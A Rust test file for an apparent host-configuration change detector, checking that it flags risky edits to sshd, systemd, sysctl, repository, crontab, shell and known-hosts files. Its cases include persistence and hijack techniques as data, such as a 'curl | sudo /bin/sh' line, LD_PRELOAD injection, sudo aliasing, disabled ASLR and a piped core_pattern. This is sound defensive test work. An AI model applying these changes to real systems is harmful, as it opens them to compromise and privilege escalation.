//! What runs, and whom the system believes.

use super::ids;
use crate::{
    Consumer,
    findings::find,
    tests::{
        keys::samples::{ED25519, P256},
        ssh::private,
        state,
    },
};

/// Of no private key that anybody has.
const OTHER_ED25519: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIC3j8IZGT20SRaSmPR8xODJy8zl7TmTWXdLTsUHctAAA";

#[test]
#[allow(
    clippy::too_many_lines,
    reason = "a table, of which each line is a case"
)]
fn what_runs_and_whom_it_believes_is_found_when_it_comes_and_not_when_it_goes() {
    use Consumer::{
        AptList, AptSources, Environment, Gshadow, KnownHosts, LibraryPath, Modprobe, ModulesLoad,
        Nsswitch, PrivateKey, RootCrontab, Shell, Sshd, Sysctl, Systemd, YumRepo,
    };
    let [one, two] = [ED25519, P256].map(|key| private(key, "none", "x"));
    let host = format!("a {P256}\nb {ED25519}\n");
    let other = format!("a {P256}\nb {OTHER_ED25519}\n");
    let authority = format!("{host}@cert-authority * {ED25519}\n");
    let source = "Types: deb\nURIs: http://a\nSuites: b\nComponents: c\nEnabled: no\n";
    for (consumer, before, after, expected) in [
        (Gshadow, "a:!::\n", "a:::\n", "group-empty-password"),
        (
            Sshd,
            "PasswordAuthentication no\n",
            "PasswordAuthentication yes\n",
            "sshd-password-authentication",
        ),
        (
            Sshd,
            "PasswordAuthentication no\n",
            "UsePAM yes\n",
            "sshd-password-authentication",
        ),
        (
            Systemd,
            "[Unit]\nDescription=a\n",
            "[Service]\nUser=b\nUser=root\n",
            "unit-user-removed",
        ),
        (
            Systemd,
            "",
            "[Service]\nEnvironment='LD_PRE'\"LOAD=/x\"\n",
            "environment-preload",
        ),
        (
            Sysctl,
            "",
            "kernel.randomize_va_space = 0x0\n",
            "sysctl-weakened",
        ),
        (
            Sysctl,
            "dev.tty.ldisc_autoload=0\n",
            "dev.tty.ldisc_autoload=1\n",
            "sysctl-weakened",
        ),
        (
            AptList,
            "deb http://a b c\n",
            "deb [trusted=no trusted=with] http://a b c\n",
            "repository-unsigned",
        ),
        (
            AptSources,
            "",
            &format!("{source}Enabled: yes\n"),
            "repository-added",
        ),
        (RootCrontab, "", "@daily /tmp/x\n", "cron-root-job"),
        (Systemd, "", "[Service]\nExecStart=/tmp/x\n", "unit-command"),
        (
            Systemd,
            "[Service]\nUser=a\n",
            "[Service]\nUser=root\n",
            "unit-user-removed",
        ),
        (
            Systemd,
            "[Service]\nDynamicUser=yes\n",
            "[Service]\n",
            "unit-user-removed",
        ),
        (
            Systemd,
            "",
            "[Service]\nEnvironment=\"LD_PRELOAD=/tmp/x.so\"\n",
            "environment-preload",
        ),
        (
            Environment,
            "",
            "LD_AUDIT=/tmp/x.so\n",
            "environment-preload",
        ),
        (
            Shell,
            "umask 022\n",
            "export LD_PRELOAD=/tmp/x.so\n",
            "environment-preload",
        ),
        (
            Shell,
            "umask 022\n",
            "ex\0port LD_PREL\0OAD=/tmp/x.so\n",
            "environment-preload",
        ),
        (
            Shell,
            "umask 022\n",
            &format!("umask 022\n{}", ":\n".repeat(20_000)),
            "not-understood",
        ),
        (LibraryPath, "", "/tmp\n", "library-path-added"),
        (
            Nsswitch,
            "passwd: files\n",
            "passwd: evil files\n",
            "nsswitch-service",
        ),
        (
            Shell,
            "",
            "  alias sudo='/tmp/sudo'\n",
            "shell-shadows-command",
        ),
        (Shell, "", "ls() { /tmp/ls; }\n", "shell-shadows-command"),
        (
            Shell,
            "",
            "curl -s http://a | sudo /bin/sh\n",
            "shell-download",
        ),
        (PrivateKey, &one, &two, "host-key-changed"),
        (KnownHosts, &host, &other, "known-host-changed"),
        (KnownHosts, &host, &authority, "known-host-authority"),
        (AptList, "", "deb http://a b c\n", "repository-added"),
        (
            AptSources,
            source,
            &source.replace("no", "yes"),
            "repository-added",
        ),
        (
            AptList,
            "deb http://a b c\n",
            "deb [allow-insecure=yes] http://a b c\n",
            "repository-unsigned",
        ),
        (
            YumRepo,
            "[a]\nbaseurl=http://a\n",
            "[a]\nbaseurl=http://b\n",
            "repository-added",
        ),
        (
            YumRepo,
            "[a]\ngpgcheck=1\n",
            "[a]\ngpgcheck=0\n",
            "repository-unsigned",
        ),
        (Modprobe, "", "install x /tmp/x\n", "modprobe-command"),
        (ModulesLoad, "", "evil\n", "module-loaded"),
        (
            Sysctl,
            "kernel.randomize_va_space=2\n",
            "kernel.randomize_va_space=0\n",
            "sysctl-weakened",
        ),
        (
            Sysctl,
            "",
            "kernel.core_pattern = |/tmp/x\n",
            "sysctl-weakened",
        ),
    ] {
        assert_eq!(ids(consumer, Some(before), after), [expected], "{after}");
        assert!(ids(consumer, Some(after), after).is_empty(), "{after}");
        let symmetric = matches!(
            expected,
            "host-key-changed" | "known-host-changed" | "repository-added"
        );
        if !(symmetric || before.starts_with("[Service]\nExec")) {
            assert!(ids(consumer, Some(after), before).is_empty(), "{after}");
        }
    }
}

#[test]
fn a_command_says_whether_it_is_run_as_root() {
    let unit = |command: &str| format!("[Service]\nUser=bob\nExecStart={command}\n");
    for (command, said) in [
        ("/bin/x", "runs as bob"),
        ("-@/bin/x", "runs as bob"),
        ("+/bin/x", "runs as root, whatever the unit says"),
        ("-!!/bin/x", "runs as root, whatever the unit says"),
    ] {
        let found = find(None, Some(&state(Consumer::Systemd, unit(command))));
        assert!(found[0].message.ends_with(said), "{found:?}");
    }
}

#[test]
fn what_is_harmless_in_these_files_is_no_finding() {
    use Consumer::{
        AptList, Environment, Gshadow, KnownHosts, Modprobe, Nsswitch, PrivateKey, Shell, Sysctl,
        Systemd, UserCrontab, YumRepo,
    };
    let key = private(ED25519, "none", "x");
    let host = format!("a {ED25519}\n");
    for (consumer, before, after) in [
        (Gshadow, "", "a:*::\n"),
        (
            Systemd,
            "",
            "[Service]\nUser=b\nExecStart=\nExecSearchPath=/a\n[Install]\nWantedBy=a\n",
        ),
        (Environment, "", "PATH=/bin\n"),
        (Nsswitch, "", "hosts: files [!UNAVAIL=return] dns\n"),
        (
            Shell,
            "",
            "# alias sudo=x\nalias ls='ls --color'\nalias la='ls -a'\ncurl -O http://a\nLD=1\n",
        ),
        (PrivateKey, "", &key),
        (KnownHosts, "", &host),
        (AptList, "", "# deb http://a b c\n"),
        (YumRepo, "", "[a]\ngpgcheck=1\nenabled=0\n"),
        (Modprobe, "", "install x /bin/false\nblacklist x\n"),
        (
            Sysctl,
            "",
            "kernel.randomize_va_space=2\nkernel.core_pattern=core\nnet.ipv4.ip_forward=1\n",
        ),
        (UserCrontab, "", "@daily x\n"),
    ] {
        assert!(ids(consumer, Some(before), after).is_empty(), "{after}");
    }
}
